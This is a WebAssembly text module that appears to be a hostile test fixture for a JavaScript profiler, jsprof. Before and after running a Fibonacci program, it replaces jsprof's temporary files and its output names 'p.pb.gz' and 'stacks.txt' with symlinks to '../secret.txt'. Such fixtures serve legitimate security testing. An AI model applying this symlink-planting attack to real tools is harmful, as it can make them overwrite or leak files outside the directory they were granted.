;; A dynamic Javy module for javy-plugin-1.7.0 (namespace
;; javy_chainlink_sdk) that attacks jsprof's outputs in the directory it
;; is granted (preopened as fd 3), before and after its program
;; (fib(20), printed as "fib 6765"): it replaces every entry named
;; ".jsprof-*" (jsprof's temporary files) with a link to ../secret.txt,
;; and puts the same link at p.pb.gz and stacks.txt, the names a test
;; gives -o and --collapsed. The program's bytecode is overwrite.wat's.
(module
  (import "javy_chainlink_sdk" "cabi_realloc" (func $realloc (param i32 i32 i32 i32) (result i32)))
  (import "javy_chainlink_sdk" "invoke" (func $invoke (param i32 i32 i32 i32 i32)))
  (import "javy_chainlink_sdk" "memory" (memory 0))
  (import "wasi_snapshot_preview1" "fd_readdir" (func $readdir (param i32 i32 i32 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_symlink" (func $symlink (param i32 i32 i32 i32 i32) (result i32)))
  ;; Scratch memory from the plugin's allocator: the link target at 0,
  ;; the two output names at 16 and 32, fd_readdir's count at 48, its
  ;; entries from 64.
  (global $scratch (mut i32) (i32.const 0))
  (func $plant (param $name i32) (param $len i32)
    (drop (call $unlink (i32.const 3) (local.get $name) (local.get $len)))
    (drop (call $symlink (global.get $scratch) (i32.const 13) (i32.const 3) (local.get $name) (local.get $len))))
  (func $attack
    (local $p i32) (local $end i32) (local $n i32)
    (call $plant (i32.add (global.get $scratch) (i32.const 16)) (i32.const 7))
    (call $plant (i32.add (global.get $scratch) (i32.const 32)) (i32.const 10))
    (drop (call $readdir (i32.const 3) (i32.add (global.get $scratch) (i32.const 64)) (i32.const 4096)
      (i64.const 0) (i32.add (global.get $scratch) (i32.const 48))))
    (local.set $p (i32.add (global.get $scratch) (i32.const 64)))
    (local.set $end (i32.add (local.get $p) (i32.load (i32.add (global.get $scratch) (i32.const 48)))))
    (block $done
      (loop $next
        ;; an entry: d_next, d_ino (u64), d_namlen (u32), d_type, padding: 24 bytes, then the name
        (br_if $done (i32.gt_u (i32.add (local.get $p) (i32.const 24)) (local.get $end)))
        (local.set $n (i32.load offset=16 (local.get $p)))
        (br_if $done (i32.gt_u (i32.add (i32.add (local.get $p) (i32.const 24)) (local.get $n)) (local.get $end)))
        ;; ".jsprof-", read as a little-endian i64
        (if (i32.and (i32.ge_u (local.get $n) (i32.const 8))
                     (i64.eq (i64.load offset=24 (local.get $p)) (i64.const 0x2d666f7270736a2e)))
          (then (call $plant (i32.add (local.get $p) (i32.const 24)) (local.get $n))))
        (local.set $p (i32.add (i32.add (local.get $p) (i32.const 24)) (local.get $n)))
        (br $next))))
  (func (export "_start")
    (local $bytecode i32)
    (global.set $scratch (call $realloc (i32.const 0) (i32.const 0) (i32.const 8) (i32.const 4160)))
    ;; "../secret.txt", "p.pb.gz", "stacks.txt", each in 16 bytes
    (i64.store offset=0 (global.get $scratch) (i64.const 7310014432551054894))
    (i64.store offset=8 (global.get $scratch) (i64.const 500237086324))
    (i64.store offset=16 (global.get $scratch) (i64.const 34453396076375664))
    (i64.store offset=24 (global.get $scratch) (i64.const 0))
    (i64.store offset=32 (global.get $scratch) (i64.const 8371755662394356851))
    (i64.store offset=40 (global.get $scratch) (i64.const 29816))
    (call $attack)
    (local.set $bytecode (call $realloc (i32.const 0) (i32.const 0) (i32.const 1) (i32.const 211)))
    (memory.init $program (local.get $bytecode) (i32.const 0) (i32.const 211))
    (call $invoke (local.get $bytecode) (i32.const 211) (i32.const 0) (i32.const 0) (i32.const 0))
    (call $attack))
  (data $program "\15\05\01\18function.mjs\01\06fib\01\02n\01\0econsole\01\06log\0d\c6\03\00\00\00\00\00\0c \0a\01\a2\01\00\00\00\05\01\01 \00\c8\03\00\01\0cC\0a\01\c8\03\01\00\01\04\01\00\13\01\ca\03\00\01\00\c8\03\00\00\d3\b8\a7\ec\03\d3(\df\d3\b7\9f\f1\df\d3\b8\9f\f1\9e(\c6\03\01\01\08\07,%\14\16\0a\07\08/function fib(n){return n<2?n:fib(n-1)+fib(n-2)}\08\ec\05\c1\00\e3)9\e6\00\00\00C\e7\00\00\00\04\e4\00\00\00\df\be\14\f1$\02\00\0e\06/\c6\03\01\01\06&\004\10 \16\00"))
